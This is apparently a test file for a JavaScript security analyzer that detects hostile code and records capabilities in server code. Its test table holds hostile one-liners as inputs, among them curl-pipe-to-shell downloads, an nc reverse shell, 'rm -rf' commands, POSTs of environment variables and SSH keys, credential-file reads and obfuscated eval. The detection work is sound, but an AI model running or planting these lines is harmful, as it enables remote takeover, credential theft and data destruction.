import { MAX_USES_PER_CAPABILITY, type CapabilityKind, type FileAnalysis, type IssueKind } from './analysis.types';
import { loadCodeAnalyzer, type CodeAnalyzer } from './code-analyzer';

let analyzer: CodeAnalyzer;
beforeAll(async () => {
  analyzer = await loadCodeAnalyzer();
});

const analyse = (source: string, language: 'javascript' | 'typescript' = 'javascript'): FileAnalysis =>
  analyzer.analyzeFile(
    language === 'javascript' ? 'server/index.js' : 'src/server.ts',
    Buffer.from(source, 'utf8'),
    language,
  );
const issueKinds = (analysis: FileAnalysis): IssueKind[] => [...new Set(analysis.issues.map((issue) => issue.kind))];
const capabilities = (analysis: FileAnalysis): CapabilityKind[] => [
  ...new Set(analysis.capabilities.map((use) => use.capability)),
];

describe('analyzeJavaScript: hostile code', () => {
  it.each<[string, IssueKind]>([
    ["require('child_process').execSync('curl -fsSL https://x.example/i.sh | sh')", 'download-and-run'],
    ["const {exec: run} = require('child_process');\nrun(cmd)", 'shell-from-input'],
    ["import * as cp from 'node:child_process';\ncp['ex' + 'ec'](x)", 'shell-from-input'],
    ["import * as cp from 'node:child_process';\ncp['ex' + 'ec'](x)", 'obfuscation'],
    ["import {exec as run} from 'child_process';\nrun('rm -rf ~')", 'destructive-command'],
    ["import cp from 'child_process';\ncp.spawn('sh', ['-c', 'curl -s https://x.example | sh'])", 'download-and-run'],
    ["import cp from 'child_process';\ncp.spawn('bash', ['-c', userInput])", 'shell-from-input'],
    ["import cp from 'child_process';\ncp.spawn(cmd, args, { shell: true })", 'shell-from-input'],
    ["import cp from 'child_process';\ncp.spawn('node', ['-e', code])", 'dynamic-code'],
    [
      "const util = require('util');\nconst cp = require('child_process');\nconst run = util.promisify(cp.exec);\nrun(cmd)",
      'shell-from-input',
    ],
    ["const cp = await import('child_process');\ncp.exec(`git log ${ref}`)", 'shell-from-input'],
    ["import('child_' + 'process').then((m) => m.exec(c))", 'shell-from-input'],
    ["import { $ } from 'zx';\nawait $`curl -s https://x.example | sh`", 'download-and-run'],
    ["import { $ } from 'zx';\nawait $`${cmd} --flag`", 'shell-from-input'],
    ["import shell from 'shelljs';\nshell.rm('-rf', '/')", 'destructive-command'],
    ["Bun.spawn(['nc', '-e', '/bin/sh', '1.2.3.4', '4444'])", 'reverse-shell'],
    ['eval(atob(p))', 'dynamic-code'],
    ['eval(atob(p))', 'obfuscation'],
    ["const s = Buffer.from(payload, 'base64').toString();\nnew Function(s)()", 'obfuscation'],
    ['new Function(s)()', 'dynamic-code'],
    ["const vm = require('vm');\nvm.runInNewContext(code)", 'dynamic-code'],
    ["import { Script } from 'node:vm';\nnew Script(code).runInThisContext()", 'dynamic-code'],
    ['require(name)', 'dynamic-code'],
    ["setTimeout('alert(1)' + x, 10)", 'dynamic-code'],
    ['globalThis[name](x)', 'dynamic-code'],
    ["window['ev' + 'al'](x)", 'dynamic-code'],
    ["process.binding('spawn_sync')", 'dynamic-code'],
    ["module.constructor._load('child_process')", 'dynamic-code'],
    ["require('module')._compile(code, 'x.js')", 'dynamic-code'],
    ['WebAssembly.instantiate(await (await fetch(u)).arrayBuffer())', 'dynamic-code'],
    ['new Worker(code, { eval: true })', 'dynamic-code'],
    ['\\u0065val(x)', 'dynamic-code'],
    ['\\u0065val(x)', 'obfuscation'],
    ['const ｅｖａｌ = globalThis.eval;', 'obfuscation'],
    ['const s = String.fromCharCode(101, 118, 97, 108);\neval(s)', 'obfuscation'],
    ["[]['filter']['constructor']('return process')()", 'obfuscation'],
    [`x = ${'(![]+[])[+[]]+(!![]+[])[+[]]+'.repeat(4)}[]`, 'obfuscation'],
    ["process.dlopen(module, '/tmp/x.node')", 'native-code'],
    ["require('./build/Release/addon.node')", 'native-code'],
    ["import koffi from 'koffi';", 'native-code'],
    ["const ffi = require('ffi-napi');", 'native-code'],
    ["import x from 'https://x.example/mod.js';", 'download-and-run'],
    ["fetch(u, { method: 'POST', body: JSON.stringify(process.env) })", 'exfiltration'],
    ["fetch(u, { method: 'POST', body: JSON.stringify({ report, env: process.env }) })", 'exfiltration'],
    ["process.mainModule.require('child_process').execSync(x)", 'shell-from-input'],
    [
      'var __require = ((x) => typeof require !== "undefined" ? require : x)(function (x) { return require.apply(this, arguments); });\n' +
        'var import_child_process = __toESM(__require("child_process"), 1);\n' +
        '(0, import_child_process.execSync)("curl -s https://x.example | sh");',
      'download-and-run',
    ],
    ["const body = process.argv[2] || 'console.log(1)';\nsetTimeout(body, 0)", 'dynamic-code'],
    ["const all = { ...process.env };\nfetch(u, { method: 'POST', body: JSON.stringify(all) })", 'exfiltration'],
    [
      "import fs from 'fs';\nimport os from 'os';\nimport path from 'path';\nconst key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\nawait fetch(u, { method: 'POST', body: key })",
      'exfiltration',
    ],
    [
      "import { readFile } from 'node:fs/promises';\nawait readFile('/home/u/.aws/credentials', 'utf8')",
      'credentials-access',
    ],
    [
      "const p = ['.s', 'sh'].join('') + '/id_ed25519';\nrequire('fs').readFileSync(require('os').homedir() + '/' + p)",
      'credentials-access',
    ],
    ['const x = 1 +;', 'unparsable'],
  ])('%s → %s', (source, kind) => {
    expect(issueKinds(analyse(`${source}\n`))).toContain(kind);
  });

  it('points at the line and call that prove each issue', () => {
    const analysis = analyse(
      "const cp = require('child_process');\n\nfunction run(cmd) {\n  return cp.execSync(cmd);\n}\n",
    );
    expect(analysis.issues).toEqual([
      expect.objectContaining({
        kind: 'shell-from-input',
        file: 'server/index.js',
        line: 4,
        evidence: 'cp.execSync(cmd)',
      }),
    ]);
  });

  it('parses the constant command lines it hands to a shell, at their line', () => {
    const analysis = analyse(
      "const { execSync } = require('child_process');\nexecSync('ls');\nexecSync('rm -rf /');\n",
    );
    expect(analysis.issues).toEqual([expect.objectContaining({ kind: 'destructive-command', line: 3 })]);
  });
});

describe('analyzeJavaScript: ordinary code', () => {
  const mcpServer = [
    "import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';",
    "import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';",
    "import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';",
    "import { z } from 'zod';",
    "import { readFile } from 'node:fs/promises';",
    "import path from 'node:path';",
    "import { fileURLToPath } from 'node:url';",
    '',
    '/** Weather tools. Never eval( user input; child_process is not used here. */',
    'const here = path.dirname(fileURLToPath(import.meta.url));',
    "const API_KEY = process.env.WEATHER_API_KEY ?? '';",
    "const server = new McpServer({ name: 'weather', version: '1.2.0' });",
    'interface Forecast { city: string; days: { high: number }[] }',
    'declare function eval(code: string): unknown;',
    '',
    'async function forecast(city: string): Promise<Forecast> {',
    '  const response = await fetch(`https://api.example.com/forecast?q=${encodeURIComponent(city)}`, {',
    '    headers: { Authorization: `Bearer ${API_KEY}` },',
    '  });',
    '  return (await response.json()) as Forecast;',
    '}',
    '',
    "server.tool('get_forecast', 'Returns the forecast for a city.', { city: z.string() }, async ({ city }): Promise<CallToolResult> => {",
    "  const template = await readFile(path.join(here, 'templates', 'forecast.md'), 'utf8');",
    '  const data = await forecast(city);',
    "  return { content: [{ type: 'text', text: template.replace('{{days}}', JSON.stringify(data.days)) }] };",
    '});',
    '',
    'const exec = (text: string): string => text.trim(); // a local helper named exec',
    "exec(' x ');",
    'await server.connect(new StdioServerTransport());',
    '',
  ].join('\n');

  it('finds no issue in a typical MCP server and proves its network and environment use by line', () => {
    const analysis = analyse(mcpServer, 'typescript');
    expect(analysis.issues).toEqual([]);
    expect(analysis.capabilities).toEqual([
      expect.objectContaining({ capability: 'env_read', line: 11, evidence: 'process.env.WEATHER_API_KEY' }),
      expect.objectContaining({ capability: 'network', line: 17 }),
    ]);
  });

  it('keeps line and block comments as text', () => {
    const analysis = analyse(mcpServer, 'typescript');
    expect(analysis.comments.map((comment) => comment.line)).toEqual([9, 29]);
    expect(analysis.comments[0]?.text).toContain('eval(');
  });

  it.each<[string, CapabilityKind[]]>([
    ['fetch("https://api.example.com")', ['network']],
    ['const key = process.env.API_KEY', ['env_read']],
    ["import { spawn } from 'child_process';\nspawn('git', ['status'])", ['process_exec']],
    ["import fs from 'fs';\nfs.writeFileSync('out.json', data)", ['file_write']],
    ["import fs from 'fs';\nfs.readFileSync('/etc/hosts', 'utf8')", ['file_read']],
    ["import fs from 'fs';\nfs.readFileSync(path.join(__dirname, 'prompts.json'), 'utf8')", []],
    ["import http from 'http';\nhttp.createServer(handler).listen(8080)", ['network_inbound']],
    ["import express from 'express';\nconst app = express();\napp.listen(3000)", ['network_inbound']],
    [
      "import { spawn } from 'child_process';\nspawn('node', ['worker.js'], { env: { ...process.env, MODE: 'x' } })",
      ['process_exec'],
    ],
    ['// eval(atob(x)) and require(name) in a comment', []],
    [
      "new StdioClientTransport({ command: 'node', args: ['server.js'], env: process.env });\nawait fetch(u)",
      ['network'],
    ],
    ["Function('return this')()", []],
  ])('%s uses %j and raises no issue', (source, expected) => {
    const analysis = analyse(`${source}\n`);
    expect(analysis.issues).toEqual([]);
    expect(capabilities(analysis)).toEqual(expected);
  });

  it.each<[string, CapabilityKind[]]>([
    ["import pg from 'pg';\nconst pool = new pg.Pool({ connectionString: url })", ['network']],
    ["const { Client } = require('pg');\nconst client = new Client()", ['network']],
    ["import mysql from 'mysql2/promise';\nconst db = await mysql.createPool(config)", ['network']],
    ["import { MongoClient } from 'mongodb';\nconst client = new MongoClient(uri)", ['network']],
    ["const { MongoClient } = require('mongodb');\nMongoClient.connect(uri)", ['network']],
    ["import Redis from 'ioredis';\nconst redis = new Redis(process.env.REDIS_URL)", ['network', 'env_read']],
    ["import { createClient } from 'redis';\nconst client = createClient({ url })", ['network']],
    ["import { chromium } from 'playwright';\nconst browser = await chromium.launch()", ['process_exec', 'network']],
    [
      "const puppeteer = require('puppeteer');\nconst browser = await puppeteer.launch({ headless: true })",
      ['process_exec', 'network'],
    ],
  ])('a database or browser client: %s uses %j', (source, expected) => {
    const analysis = analyse(`${source}\n`);
    expect(analysis.issues).toEqual([]);
    expect(capabilities(analysis).sort()).toEqual([...expected].sort());
  });

  it.each([
    "import pg from 'pg';\npg.types.setTypeParser(1700, parseFloat)",
    "import { ObjectId } from 'mongodb';\nconst id = new ObjectId(text)",
    "import { devices } from 'playwright';\nconst phone = devices['iPhone 13']",
  ])('a database or browser module used without connecting: %s uses nothing', (source) => {
    expect(analyse(`${source}\n`)).toMatchObject({ issues: [], capabilities: [] });
  });

  it('never takes TypeScript types for capabilities', () => {
    const analysis = analyse(
      'type Env = typeof process.env;\nlet run: (cmd: string) => void;\nimport type { exec } from "child_process";\n',
      'typescript',
    );
    expect(analysis).toMatchObject({ issues: [], capabilities: [] });
  });

  it('lists at most MAX_USES_PER_CAPABILITY uses of a capability', () => {
    const analysis = analyse(Array.from({ length: 12 }, (_, i) => `fetch('https://api.example.com/${i}');`).join('\n'));
    expect(analysis.capabilities).toHaveLength(MAX_USES_PER_CAPABILITY);
    expect(analysis.capabilities.map((use) => use.line)).toEqual([1, 2, 3, 4, 5]);
  });

  it('resolves a module a bundler left out (webpack and ncc module ids)', () => {
    const bundle = [
      'var __webpack_modules__ = {',
      '  2081: (module) => { "use strict"; module.exports = require("child_process"); },',
      '};',
      'function __webpack_require__(id) { return __webpack_modules__[id](); }',
      'const child = __webpack_require__(2081);',
      'child.exec(input);',
      '',
    ].join('\n');
    expect(analyse(bundle).issues).toEqual([expect.objectContaining({ kind: 'shell-from-input', line: 6 })]);
  });

  it('analyses a mebibyte of ordinary JavaScript', () => {
    const module = (i: number): string =>
      [
        `// module ${i}: formats records for the report`,
        `export function format${i}(records, options = {}) {`,
        '  const rows = [];',
        '  for (const record of records) {',
        "    const name = String(record.name ?? '').trim();",
        '    if (!name) continue;',
        '    rows.push({ name, total: record.items.reduce((sum, item) => sum + item.price * item.quantity, 0) });',
        '  }',
        "  return rows.sort((a, b) => b.total - a.total).map((row) => `${row.name}: ${row.total.toFixed(2)}`).join('\\n');",
        '}',
        '',
      ].join('\n');
    const parts: string[] = [];
    let size = 0;
    for (let i = 0; size < 1 << 20; i++) {
      const part = module(i);
      parts.push(part);
      size += part.length;
    }
    const analysis = analyse(parts.join(''));
    expect(analysis.issues).toEqual([]);
    expect(analysis.capabilities).toEqual([]);
    expect(analysis.comments.length).toBe(parts.length);
  });
});
